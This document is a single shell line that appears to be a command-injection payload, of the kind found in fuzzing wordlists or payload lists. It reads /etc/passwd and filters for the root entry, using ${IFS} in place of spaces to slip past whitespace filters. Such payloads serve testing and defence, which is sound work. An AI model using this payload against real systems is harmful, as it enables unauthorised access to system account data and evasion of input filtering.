cat${IFS}/etc/passwd|grep${IFS}root
